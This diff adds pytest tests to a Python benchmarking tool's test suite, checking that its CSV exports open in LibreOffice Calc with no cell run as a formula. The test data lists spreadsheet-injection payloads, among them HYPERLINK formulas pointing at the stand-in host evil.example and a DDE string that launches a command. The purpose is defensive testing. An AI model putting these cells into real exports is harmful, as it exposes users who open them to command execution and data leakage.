@@ -468,3 +468,84 @@ def test_pickle_checkpoint_is_refused_and_never_unpickled(tiny_model, tmp_path, 
         assert str(ckpt.name) in r.stderr and "safetensors is required" in r.stderr, r.stderr
         assert not marker.exists(), f"the pickle in {ckpt} was executed"
     pinned.scorer_identity.cache_clear()
+
+
+# --------------------------------------------------------------------------------------------
+# 5. Exports that open in a spreadsheet (issue 24 item 7): every CSV imagebench writes goes
+# through tasks/store/spreadsheet.py, and a real spreadsheet (LibreOffice Calc) runs none of it.
+# --------------------------------------------------------------------------------------------
+
+SPREADSHEET_ATTACKS = {  # column alias -> text that a spreadsheet would run
+    "link": '=HYPERLINK("http://evil.example/?x","open me")',
+    "plus": "+1+1",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "quoted": "'=1+1",
+    "midcr": 'seen\r=HYPERLINK("http://evil.example/?r","open me")',  # a bare CR starts a new row
+}
+
+
+def _sql_literal(text: str) -> str:
+    return "(" + " || ".join(f"chr({ord(c)})" for c in text) + ")"  # no quoting question at all
+
+
+def test_sql_csv_runs_nothing_in_a_spreadsheet_and_keeps_numbers(sql_catalog, tmp_path):
+    """`imagebench sql ... --format csv` (the one CSV writer of every command) in its own process,
+    opened in LibreOffice Calc: no cell is a formula, each text reads as written behind one quote,
+    and numbers stay numbers (-0.5 as a number and as text, 12 as an integer)."""
+    from tests.libreoffice import open_csv
+
+    home = sql_catalog[0]
+    env = {**{k: v for k, v in os.environ.items() if not k.startswith(("IMAGEBENCH_", "PYTEST"))}, "IMAGEBENCH_HOME": str(home)}
+    columns = ", ".join(f"{_sql_literal(text)} AS {alias}" for alias, text in SPREADSHEET_ATTACKS.items())
+    query = f"SELECT {columns}, -0.5 AS num, '-0.5' AS num_text, 12 AS n, NULL AS absent FROM hps_scores LIMIT 1"
+    r = cli_process(["sql", query, "--format", "csv"], env, timeout=120)
+    assert r.returncode == 0, r.stderr
+    out = tmp_path / "sql.csv"
+    out.write_text(r.stdout, newline="")
+    rows = open_csv(out)
+    assert len(rows) == 2, rows  # a header and one row: no cell broke into a row of its own
+    cells = dict(zip([c.text for c in rows[0]], rows[1]))
+    assert not [(name, c.formula) for name, c in cells.items() if c.formula], cells
+    def shown(text: str) -> str:  # Calc shows a CR as a line break, and a tab as <text:tab/>
+        return text.replace("\r", "\n").replace("\t", "").lstrip("'")
+
+    for alias, text in SPREADSHEET_ATTACKS.items():
+        assert cells[alias].value_type == "string" and shown(cells[alias].text) == shown(text), (alias, cells[alias])
+    assert (cells["num"].value_type, cells["num"].value) == ("float", "-0.5")
+    assert (cells["num_text"].value_type, cells["num_text"].value) == ("float", "-0.5")
+    assert (cells["n"].value_type, cells["n"].value) == ("float", "12")
+    assert cells.get("absent") is None or (cells["absent"].value_type is None and cells["absent"].text == "")
+
+
+def test_every_csv_is_written_by_the_one_neutralising_writer():
+    """No module of flows/ or tasks/ writes CSV but tasks/store/spreadsheet.py (an AST scan for
+    csv.writer / csv.DictWriter, however imported)."""
+    found = []
+    for path in sorted([*(REPO / "flows").rglob("*.py"), *(REPO / "tasks").rglob("*.py")]):
+        if path == REPO / "tasks" / "store" / "spreadsheet.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text(), str(path))):
+            name = None
+            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
+                name = node.attr if isinstance(node.value, ast.Name) and node.value.id == "csv" else None
+            elif isinstance(node, ast.ImportFrom) and node.module == "csv":
+                name = next((a.name for a in node.names if a.name in ("writer", "DictWriter")), None)
+            if name:
+                found.append(f"{path.relative_to(REPO)}:{node.lineno}: csv.{name}")
+    assert not found, "write CSV with tasks.store.spreadsheet.write_csv:\n" + "\n".join(found)
+
+
+@pytest.mark.parametrize("value, written", [
+    ('=HYPERLINK("http://e/","x")', '\'=HYPERLINK("http://e/","x")'), ("+1", "+1"), ("-0.5", "-0.5"), ("1e-3", "1e-3"),
+    ("-1+1", "'-1+1"), ("-inf", "'-inf"), ("@A1", "'@A1"), ("\t1", "'\t1"), ("\r1", "'\r1"), ("'x", "''x"),
+    ("plain", "plain"), ("", ""), (None, ""), (-0.5, -0.5), (3, 3), (True, "True"),
+])
+def test_spreadsheet_cell_rule(value, written):
+    from tasks.store.spreadsheet import cell
+
+    assert cell(value) == written
+    if isinstance(value, str):  # a reader undoes the rule in one step: drop one leading quote
+        assert (written[1:] if written.startswith("'") else written) == value
